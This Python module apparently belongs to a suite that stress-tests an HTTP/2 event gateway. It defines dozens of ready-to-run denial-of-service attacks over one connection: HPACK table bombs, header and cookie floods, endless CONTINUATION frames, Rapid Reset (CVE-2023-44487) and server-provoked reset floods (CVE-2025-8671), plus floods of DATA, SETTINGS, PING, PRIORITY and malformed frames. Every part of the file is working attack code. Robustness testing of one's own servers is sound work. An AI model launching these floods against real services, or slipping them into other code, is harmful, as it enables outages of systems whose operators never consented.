# SPDX-License-Identifier: Apache-2.0
"""Attacks on one HTTP/2 connection that is as fast as it can be: header blocks, resets, DATA and control frames."""
import itertools
import os
import struct

from attack import frames
from attack.engine import data_flood, flood, flood_again, repeat, streams
from attack.registry import attack
from attack.frames import (END_HEADERS, END_STREAM, GET, POST, data, frame, headers, indexed, literal, literal_indexed, padded_data, ping,
                           priority, request_block, rst_stream, settings, size_update, window_update)

MISSING = b"/v1/events/evt_00000000-0000-7000-8000-000000000000"


def get(target, path=MISSING):
    return request_block(GET, path, scheme=target.scheme)


def post(target, fields=(), authorized=True, path=b"/v1/events", media=b"application/json"):
    return request_block(POST, path, [(b"content-type", media), *([target.authorization()] if authorized else []), *fields],
                         scheme=target.scheme)


def batch(target, authorized=True):
    return post(target, authorized=authorized, path=b"/v1/events/batch", media=b"application/x-ndjson")


def open_post(target):
    """A stream 1 whose body is awaited."""
    return headers(1, post(target), end=False)


# --- header blocks ---

def bomb(target, stream, end):
    """Indexes a field of 3.9 KB that is in the dynamic table, thousands of times."""
    block = get(target) + (literal_indexed(b"x", b"y" * 3900) if stream == 1 else b"")
    return headers(stream, block + indexed(62) * (16000 - len(block)), end)


@attack("hpack-bomb", "a field of 3.9 KB in the table, indexed 16000 times a request", is_short=True)
def hpack_bomb(target):
    blobs = streams(lambda stream: bomb(target, stream, True), ready=200, chunk=20)
    return lambda: flood(target, blobs)


@attack("hpack-bomb-held", "the same in 100 requests whose bodies never come")
def hpack_bomb_held(target):
    blob = b"".join(bomb(target, stream, False) for stream in range(1, 201, 2))
    return lambda: flood(target, [blob])


@attack("hpack-bomb-long", "the same with 200000 indexes, in CONTINUATION")
def hpack_bomb_long(target):
    def request(stream):
        block = get(target) + (literal_indexed(b"x", b"y" * 3900) if stream == 1 else b"")
        return headers(stream, block + indexed(62) * 200000, False)

    blob = b"".join(request(stream) for stream in range(1, 101, 2))
    return lambda: flood(target, [blob])


@attack("hpack-bomb-small", "the same with 50 indexes in each of 100 open requests")
def hpack_bomb_small(target):
    def request(stream):
        block = get(target) + (literal_indexed(b"x", b"y" * 3900) if stream == 1 else b"")
        return headers(stream, block + indexed(62) * 50, False)

    return lambda: flood(target, [b"".join(request(stream) for stream in range(1, 201, 2))])


@attack("hpack-size-updates", "16000 size updates of the table before each request")
def hpack_size_updates(target):
    updates = (size_update(0) + size_update(4096)) * 4000
    blobs = streams(lambda stream: headers(stream, updates[:16000] + get(target)), ready=400, chunk=20)
    return lambda: flood(target, blobs)


@attack("hpack-size-updates-few", "two size updates in each request, and a table filled again")
def hpack_size_updates_few(target):
    block = size_update(0) + size_update(4096) + get(target) + b"".join(literal_indexed(b"n%d" % n, b"v" * 60) for n in range(40))
    blobs = streams(lambda stream: headers(stream, block), ready=4000, chunk=100)
    return lambda: flood(target, blobs)


@attack("header-fields", "3000 fields of 4 bytes in each request")
def header_fields(target):
    blobs = streams(lambda stream: headers(stream, get(target) + literal(b"a", b"b") * 3000), ready=1000, chunk=20)
    return lambda: flood(target, blobs)


@attack("cookie-crumbs", "3000 cookie fields of 1 byte in each request")
def cookie_crumbs(target):
    blobs = streams(lambda stream: headers(stream, get(target) + literal(32, b"a") * 3000), ready=1000, chunk=20)
    return lambda: flood(target, blobs)


@attack("header-path", "requests whose path has 15 KB")
def header_path(target):
    block = get(target, b"/" + b"a" * 15000)
    blobs = streams(lambda stream: headers(stream, block), ready=1000, chunk=20)
    return lambda: flood(target, blobs)


@attack("header-block-1mb", "header blocks of 1 MiB in HEADERS and CONTINUATION")
def header_block_1mb(target):
    block = get(target) + literal(b"a", b"b" * 8000) * 131
    blobs = streams(lambda stream: headers(stream, block), ready=20, chunk=2)
    return lambda: flood(target, blobs)


@attack("header-field-huge", "one field whose announced length is 1 GiB")
def header_field_huge(target):
    start = frame(frames.HEADERS, END_STREAM, 1, get(target) + b"\0\1a" + frames.integer(2 ** 30, 7))
    return lambda: flood(target, itertools.chain([start], repeat(frame(frames.CONTINUATION, 0, 1, b"b" * 16000))))


def continuation(target, payload):
    start = frame(frames.HEADERS, END_STREAM, 1, get(target))
    return lambda: flood(target, itertools.chain([start], repeat(frame(frames.CONTINUATION, 0, 1, payload))))


@attack("continuation-empty", "empty CONTINUATION frames without end", is_short=True)
def continuation_empty(target):
    return continuation(target, b"")


@attack("continuation-1-byte", "CONTINUATION frames of 1 byte without end")
def continuation_1_byte(target):
    return continuation(target, b"\0")


@attack("continuation-endless", "CONTINUATION frames of 16 KB without end")
def continuation_endless(target):
    return continuation(target, literal(b"a", b"b" * 100) * 150)


@attack("trailers-flood", "posts with a body of one byte and 1000 fields of trailers")
def trailers_flood(target):
    block = literal(b"a", b"b") * 1000
    blobs = streams(lambda stream: headers(stream, post(target), False) + data(stream, b"{") + headers(stream, block), ready=2000, chunk=20)
    return lambda: flood(target, blobs)


# --- resets, also those that the gateway is made to send ---

@attack("rapid-reset", "a request and its RST_STREAM at once (CVE-2023-44487)", is_short=True)
def rapid_reset(target):
    block = get(target)
    blobs = streams(lambda stream: headers(stream, block) + rst_stream(stream))
    return lambda: flood(target, blobs)


@attack("rapid-reset-again", "the same, with a new connection after each cut",
        bounded="each connection is cut; the address gets few of them")
def rapid_reset_again(target):
    block = get(target)
    blobs = list(itertools.islice(streams(lambda stream: headers(stream, block) + rst_stream(stream), ready=20000), 20))
    return lambda: flood_again(target, lambda: blobs)


@attack("rapid-reset-posts", "a partner's whole posts, each reset at once", is_short=True)
def rapid_reset_posts(target):
    block = post(target)
    blobs = streams(lambda stream: headers(stream, block, False) + data(stream, target.event(), True) + rst_stream(stream), ready=40000)
    return lambda: flood(target, blobs)


@attack("rapid-reset-open-posts", "a partner's posts, reset before their body ends")
def rapid_reset_open_posts(target):
    block = post(target)
    blobs = streams(lambda stream: headers(stream, block, False) + data(stream, b"{") + rst_stream(stream))
    return lambda: flood(target, blobs)


@attack("made-reset-window-zero", "WINDOW_UPDATE of 0 makes the gateway reset (CVE-2025-8671)", is_short=True)
def made_reset_window_zero(target):
    block = get(target)
    blobs = streams(lambda stream: headers(stream, block, False) + window_update(stream, 0))
    return lambda: flood(target, blobs)


@attack("made-reset-window-overflow", "a window beyond 2^31-1 makes the gateway reset")
def made_reset_window_overflow(target):
    block = get(target)
    blobs = streams(lambda stream: headers(stream, block, False) + window_update(stream, frames.WINDOW_MAX))
    return lambda: flood(target, blobs)


@attack("made-reset-posts", "a partner's whole posts, then WINDOW_UPDATE of 0")
def made_reset_posts(target):
    block = post(target)
    blobs = streams(lambda stream: headers(stream, block, False) + data(stream, target.event(), True) + window_update(stream, 0), ready=40000)
    return lambda: flood(target, blobs)


@attack("made-reset-data-after-end", "DATA after END_STREAM", is_short=True)
def made_reset_data_after_end(target):
    block = get(target)
    blobs = streams(lambda stream: headers(stream, block) + data(stream, b"x"))
    return lambda: flood(target, blobs)


@attack("made-reset-headers-after-end", "HEADERS after END_STREAM")
def made_reset_headers_after_end(target):
    block = get(target)
    blobs = streams(lambda stream: headers(stream, block) + headers(stream, literal(b"a", b"b")))
    return lambda: flood(target, blobs)


@attack("data-on-closed", "empty DATA on a stream that was answered long ago")
def data_on_closed(target):
    return lambda: flood(target, repeat(data(1, b"")), opening=headers(1, get(target)))


@attack("data-on-reset", "DATA of 1 byte on a stream that the client has reset")
def data_on_reset(target):
    return lambda: flood(target, repeat(data(1, b"x")), opening=open_post(target) + rst_stream(1))


@attack("made-reset-self-priority", "PRIORITY of a stream on itself")
def made_reset_self_priority(target):
    block = get(target)
    blobs = streams(lambda stream: headers(stream, block, False) + priority(stream, stream))
    return lambda: flood(target, blobs)


@attack("made-reset-malformed", "requests with a field name in capitals")
def made_reset_malformed(target):
    block = get(target) + literal(b"BAD", b"x")
    blobs = streams(lambda stream: headers(stream, block))
    return lambda: flood(target, blobs)


@attack("made-reset-content-length", "requests whose content-length is not the length of the body")
def made_reset_content_length(target):
    block = post(target, [(b"content-length", b"5")], authorized=False)
    blobs = streams(lambda stream: headers(stream, block, False) + data(stream, b"{}", True))
    return lambda: flood(target, blobs)


@attack("made-reset-too-many-streams", "streams beyond the limit, each refused")
def made_reset_too_many_streams(target):
    block = post(target)
    blobs = streams(lambda stream: headers(stream, block, False))
    return lambda: flood(target, blobs)


@attack("rst-on-closed", "RST_STREAM on a stream that has ended")
def rst_on_closed(target):
    return lambda: flood(target, repeat(rst_stream(1)), opening=headers(1, get(target)))


# --- DATA within the windows ---

def posts(target, authorized=True):
    block = batch(target, authorized)
    return lambda stream: headers(stream, block, False)


@attack("data-empty", "empty DATA on an open stream", is_short=True)
def data_empty(target):
    return lambda: flood(target, repeat(data(1, b"")), opening=open_post(target))


@attack("data-empty-no-key", "the same without a key")
def data_empty_no_key(target):
    return lambda: flood(target, repeat(data(1, b"")), opening=headers(1, post(target, authorized=False), False))


@attack("data-padding-only", "DATA of padding only, 1 byte long")
def data_padding_only(target):
    return lambda: data_flood(target, lambda stream: padded_data(stream, b"", 0), 1, posts(target))


@attack("data-padding-255", "DATA of 255 bytes of padding")
def data_padding_255(target):
    return lambda: data_flood(target, lambda stream: padded_data(stream, b"", 255), 256, posts(target))


@attack("data-1-byte", "DATA of 1 byte, a partner's batches")
def data_1_byte(target):
    return lambda: data_flood(target, lambda stream: data(stream, b" "), 1, posts(target))


@attack("data-1-byte-padded", "DATA of 1 byte and 255 of padding")
def data_1_byte_padded(target):
    return lambda: data_flood(target, lambda stream: padded_data(stream, b" ", 255), 257, posts(target))


@attack("data-after-refusal", "bodies that continue after a 401, within the windows",
        bounded="each is refused; the windows bound what follows")
def data_after_refusal(target):
    return lambda: data_flood(target, lambda stream: data(stream, b"x" * 16000), 16000, posts(target, False))


@attack("data-beyond-window", "DATA that ignores the windows")
def data_beyond_window(target):
    return lambda: flood(target, repeat(data(1, b"x" * 16000)), opening=headers(1, batch(target), False))


# --- control frames ---

def control(name, title, piece, opening=lambda target: b"", **how):
    """A flood of the same bytes."""
    @attack(name, title, **how)
    def prepare(target):
        return lambda: flood(target, repeat(piece), opening=opening(target))

    return prepare


def idle_get(target):
    return headers(1, get(target))


control("settings", "SETTINGS with one parameter", settings((frames.INITIAL_WINDOW_SIZE, 65535)), is_short=True)
control("settings-empty", "SETTINGS without a parameter", settings())
control("settings-big", "SETTINGS with 2700 parameters", settings(*[(frames.MAX_HEADER_LIST_SIZE, 65536)] * 2700))
control("settings-window", "SETTINGS that change the window of 100 open streams",
        settings((frames.INITIAL_WINDOW_SIZE, 1)) + settings((frames.INITIAL_WINDOW_SIZE, 65535)),
        lambda target: b"".join(headers(stream, post(target), False) for stream in range(1, 201, 2)))
control("settings-table-size", "SETTINGS that change the size of the table",
        settings((frames.HEADER_TABLE_SIZE, 0)) + settings((frames.HEADER_TABLE_SIZE, 65536)))
control("settings-ack", "SETTINGS ACK that nobody waits for", frame(frames.SETTINGS, frames.ACK), is_short=True)
control("ping", "PING", ping(), is_short=True)
control("ping-ack", "PING ACK that nobody waits for", ping(True), is_short=True)
control("window-update-stream", "WINDOW_UPDATE of 1 on an open stream", window_update(1, 1), open_post)
control("window-update-closed", "WINDOW_UPDATE on a stream that was answered", window_update(1, 1), idle_get)
control("priority-open", "PRIORITY on an open stream", priority(1), open_post)
control("priority-closed", "PRIORITY on a stream that was answered", priority(1), idle_get)
control("goaway", "GOAWAY", frames.goaway())
control("goaway-debug", "GOAWAY with 16 KB of debug data", frames.goaway(debug=b"x" * 16000))
control("unknown-types", "empty frames of unknown type", frame(0x42), is_short=True)
control("unknown-types-100", "frames of unknown type with 100 bytes", frame(0x42, payload=bytes(100)))
control("unknown-types-stream", "frames of unknown type on an open stream", frame(0x42, 0xff, 1, bytes(10)), open_post)
control("altsvc", "ALTSVC, which only a server may send", frame(0xa, 0, 0, b"\0\1ah2=\":1\""))
control("priority-update", "PRIORITY_UPDATE (RFC 9218)", frame(0x10, 0, 0, struct.pack(">I", 1) + b"u=1"))
control("push-promise", "PUSH_PROMISE, which only a server may send", frame(frames.PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + b"\x82"),
        open_post)
control("frame-length", "a frame of 16 MB", frame(frames.DATA, 0, 1, b"x" * 65536, length=2 ** 24 - 1), open_post)
control("stream-zero", "DATA on stream 0", data(0, b"x"))
control("stream-even", "HEADERS on an even stream", headers(2, b"\x82\x86\x84"))
control("garbage", "random bytes after the preface", os.urandom(65536))


@attack("window-update", "WINDOW_UPDATE of 1 on the connection", is_short=True)
def window_update_connection(target):
    return lambda: flood(target, repeat(window_update(0, 1)), big_window=False)


@attack("priority-idle", "PRIORITY on streams that were never opened", is_short=True)
def priority_idle(target):
    blobs = streams(lambda stream: priority(stream, (stream - 2) if stream > 2 else 0))
    return lambda: flood(target, blobs)


@attack("priority-tree", "PRIORITY that turns the tree of 100 open streams around")
def priority_tree(target):
    opening = b"".join(headers(stream, post(target), False) for stream in range(1, 201, 2))
    turns = b"".join(priority(stream, (0 if stream < 3 else stream - 2) | 1 << 31) for stream in range(1, 201, 2))
    turns += b"".join(priority(stream, (0 if stream > 197 else stream + 2) | 1 << 31) for stream in range(199, 0, -2))
    return lambda: flood(target, repeat(turns), opening=opening)


@attack("window-update-streams", "requests, each with 100 WINDOW_UPDATEs of its stream")
def window_update_streams(target):
    block = get(target)
    blobs = streams(lambda stream: headers(stream, block, False) + window_update(stream, 1) * 100 + data(stream, b"", True), ready=2000, chunk=100)
    return lambda: flood(target, blobs)


@attack("ping-unread", "PING whose answers are never read", is_short=True, bounded="it is cut, or its frames are not read any more")
def ping_unread(target):
    return lambda: flood(target, repeat(ping()), reads=False)


@attack("settings-unread", "SETTINGS whose answers are never read", bounded="it is cut, or its frames are not read any more")
def settings_unread(target):
    return lambda: flood(target, repeat(settings()), reads=False)
